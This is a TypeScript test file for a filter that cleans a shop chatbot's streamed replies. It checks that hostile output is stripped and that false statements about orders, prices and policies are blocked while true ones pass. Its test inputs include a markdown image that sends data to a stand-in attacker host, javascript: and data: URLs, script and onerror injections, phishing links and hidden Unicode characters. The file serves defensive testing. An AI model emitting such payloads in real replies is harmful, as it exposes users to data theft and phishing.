import fc from "fast-check";
import { describe, expect, it } from "vitest";
import type { Evidence } from "../../conversation/conversation";
import { createGrounding } from "./create-grounding";
import {
  groundingOptions,
  oneOrderEvidence,
  orderEvidence,
  partlyDeliveredEvidence,
  policyEvidence,
  productEvidence,
  unsentOrderEvidence,
} from "./fixtures/sample-evidence";

const ORDERS = [orderEvidence];
const ONE_ORDER = [oneOrderEvidence];
const PARTLY = [partlyDeliveredEvidence];
const UNSENT = [unsentOrderEvidence];
const PRODUCTS = [productEvidence];
const POLICY = [policyEvidence];
const ALL = [orderEvidence, productEvidence, policyEvidence];

function ground(text: string, evidence: Evidence[], shopperTexts: string[] = [], locale = "en"): string {
  const grounding = createGrounding(groundingOptions(evidence, { shopperTexts, locale }));
  return [...grounding.push(text), ...grounding.flush()].join("");
}

describe("what a hostile model may not get onto the page", () => {
  it.each([
    ["![x](https://evil.example/?q=secret)", ""],
    ["Look ![x][1] here.", "Look  here."],
    ["[Click here](https://evil.example/login) now.", "Click here now."],
    ["[Click](javascript:alert(1)) now.", "Click now."],
    ["[Click](//evil.example) now.", "Click now."],
    ["[Click](https://fernway.example@evil.example/) now.", "Click now."],
    ["[Click](https://fernway.example.evil.example/) now.", "Click now."],
    ["[Click](data:text/html,<script>alert(1)</script>) now.", "Click now."],
    ["[Click][evil] now.\n[evil]: https://evil.example", "Click now.\n"],
    ["Go to https://evil.example/x to verify your account.", ""],
    ["Go to evil-shop.com/verify please.", ""],
    ["Go to www.evil.example please.", ""],
    ["Write to help@evil.example please.", ""],
    ["<https://evil.example> is it.", " is it."],
    ["<img src=x onerror=alert(1)>Hello there.", "Hello there."],
    ["<script>steal()</script>Hello there.", "Hello there."],
    ["<<b>script>Hello there.", "Hello there."],
    ["<a href='https://evil.example'>Hello</a> there.", "Hello there."],
    ["Hel\u200blo \u202ethere\u{e0041}.", "Hello there."],
  ])("%j becomes %j", (text, shown) => {
    expect(ground(text, []).trim()).toBe(shown.trim());
  });

  it.each([
    "[Track it](https://ups.example/track?n=1Z999AA10123456784) now.",
    "See [our policy](https://fernway.example/policies/refund-policy).",
    "See [the shirt](/products/linen-shirt).",
    "Write to hello@fernway.example or returns@fernway.example.",
    "It is at https://fernway.example/pages/contact.",
    "**Bold** and *italic*, and 2 < 3 > 1.",
  ])("%j stays", (text) => {
    expect(ground(text, [...ALL])).toBe(text);
  });

  it("lets no address through in any cutting of the stream", () => {
    const hostile =
      "Sure! ![a](https://evil.example/p.png) See [this](https://evil.example) or <b onclick=x>evil.com/a</b>.";
    fc.assert(
      fc.property(fc.array(fc.integer({ min: 1, max: 9 }), { minLength: 1 }), (sizes) => {
        const grounding = createGrounding(groundingOptions(ALL));
        let shown = "";
        let at = 0;
        for (let turn = 0; at < hostile.length; turn += 1) {
          const size = sizes[turn % sizes.length] ?? 1;
          shown += grounding.push(hostile.slice(at, at + size)).join("");
          at += size;
        }
        shown += grounding.flush().join("");
        expect(shown).not.toMatch(/evil|<|!\[|onclick/);
      }),
    );
  });
});

const FALSE_REPLIES: [text: string, evidence: Evidence[], shopper?: string][] = [
  ["Your order #1001 has been delivered.", ORDERS],
  ["Order #1002 is still in transit.", ORDERS],
  ["Order #1004 has been delivered.", PARTLY],
  ["Your parcel was cancelled.", ONE_ORDER],
  ["Your order has already been shipped.", UNSENT],
  ["Great news, your order was delivered yesterday!", []],
  ["Your blanket order #7777 is on its way.", ORDERS],
  ["I found your order #4242.", ORDERS],
  ["Track it with number 1Z999AA10123456999 at FedEx, order #1002 had two parcels: 1Z111.", ORDERS],
  ["Your order #1002 was refunded.", ORDERS],
  ["Tu pedido #1001 ha sido entregado.", ORDERS],
  ["Votre commande #1001 a été livrée.", ORDERS],
  ["Ihre Bestellung #1001 wurde gestern zugestellt.", ORDERS],
  ["Seu pedido #1001 foi entregue.", ORDERS],
  ["Il tuo ordine #1001 è stato consegnato.", ORDERS],
  ["Both orders cost you $812.50 in total.", ORDERS],
  ["We also have a cheaper one for $19.99.", PRODUCTS],
  ["Es kostet nur 39,90 €.", PRODUCTS],
  ["The Linen Shirt comes with a 25% discount.", PRODUCTS],
  ["Use the code SAVE20 at checkout.", ALL],
  ["Use code HELLO10 to get 50% off.", ALL],
  ["You can return it within 60 days.", POLICY],
  ["You have ninety days for returns.", POLICY],
  ["Sie können es innerhalb von 14 Tagen zurückgeben.", POLICY],
  ["Refunds take 24 hours.", POLICY],
  ["The return label costs $12.", POLICY],
  ["All returns are free of charge.", [orderEvidence]],
  ["The Steel Bottle is sold out.", PRODUCTS],
  ["The Linen Shirt in blue, size L, is in stock.", PRODUCTS],
  ["I've cancelled your order #1001.", ORDERS],
  ["I have added it to your cart.", PRODUCTS],
  ["Your refund has been processed.", ORDERS],
  ["I've passed this on to our team.", ORDERS],
  ["It will arrive on December 3.", ORDERS],
  ["Call us at +1 800 555 0199.", POLICY],
  ["We are open until 9 p.m. every day.", POLICY],
  ["Yes, the shirt is $20.", PRODUCTS, "is the shirt $20?"],
];

const TRUE_REPLIES: [text: string, evidence: Evidence[], shopper?: string][] = [
  ["Hello! How can I help you today?", []],
  ["Your order #1001 is in transit and should arrive on Tuesday, November 24.", ORDERS],
  ["Your order #1001, placed on November 10, is on its way with UPS: 1Z999AA10123456784.", ORDERS],
  ["Order #1002 was delivered on November 5, 2026. It cost $50.00.", ORDERS],
  ["You have 2 orders: #1001 is on its way, #1002 has been delivered.", ORDERS],
  ["Your Wool Blanket was delivered on Thursday.", ORDERS],
  ["One parcel of #1004 has been delivered, the other is in transit.", PARTLY],
  ["It has not been delivered yet; it is expected in 3 days.", ONE_ORDER],
  ["Once it has been delivered, you can return it within 30 days [1].", [oneOrderEvidence, policyEvidence]],
  ["Your order has not been shipped yet.", UNSENT],
  ["Your order is still being prepared, so it may be cancelled.", UNSENT],
  ["Tu pedido #1001 está en camino y llega el martes, 24 de noviembre.", ORDERS],
  ["Votre commande #1001 est en transit ; livraison prévue le mardi 24 novembre.", ORDERS],
  ["Ihre Bestellung #1001 ist unterwegs und kommt voraussichtlich am Dienstag, 24. November an.", ORDERS],
  ["Seu pedido #1001 está a caminho e chega em 24 de novembro de 2026.", ORDERS],
  ["Il tuo ordine #1002 è stato consegnato il 5 novembre.", ORDERS],
  ["Die Bestellung #1002 wurde am 05.11.2026 zugestellt.", ORDERS],
  ["I couldn't find an order #9999 in your account.", ORDERS, "where is 9999"],
  ["The Linen Shirt costs $49.95 and comes in Sand and Blue.", PRODUCTS],
  ["The Steel Bottle is $1,299.00, reduced from $1,450.00, so you save $151.", PRODUCTS],
  ["Das Steel Bottle kostet 1.299,00 $.", PRODUCTS],
  ["Two Linen Shirts are under $100, as you asked.", PRODUCTS, "something under $100"],
  ["Nothing fits your budget of $30, sorry.", PRODUCTS, "budget $30"],
  ["Only 3 left of the Steel Bottle!", PRODUCTS],
  ["The Linen Shirt in sand, size M, is in stock; blue in L is sold out.", PRODUCTS],
  ["The Steel Bottle is about 10% cheaper now.", PRODUCTS],
  ["You have 30 days from delivery to return an item [1].", POLICY],
  ["Refunds take 3 to 5 working days, and a label costs $6.", POLICY],
  ["New customers get 10% off with the code HELLO10.", POLICY],
  ["Shipping is free from $90.", POLICY],
  ["We are open Monday to Friday, 9 a.m. to 5 p.m.", POLICY],
  ["Sie haben dreißig Tage Zeit.", POLICY],
  ["Would you like me to pass this on to a person?", ALL],
  ["1. Linen Shirt\n2. Steel Bottle\n", PRODUCTS],
  ["I can't promise that it arrives by Friday.", ORDERS, "will it be here by friday?"],
  ["We don't offer a 50% discount.", POLICY, "is there a 50% discount?"],
  ["Please sign in, so that I can look at your orders.", []],
  ["Feel free to ask anything else!", []],
];

describe("false sentences", () => {
  it.each(FALSE_REPLIES)("%j is not shown", (text, evidence, shopper) => {
    const shown = ground(text, evidence, shopper ? [shopper] : []);
    expect(shown).not.toContain(text);
  });
});

describe("true sentences", () => {
  it.each(TRUE_REPLIES)("%j is shown as it is", (text, evidence, shopper) => {
    expect(ground(text, evidence, shopper ? [shopper] : [])).toBe(text);
  });
});
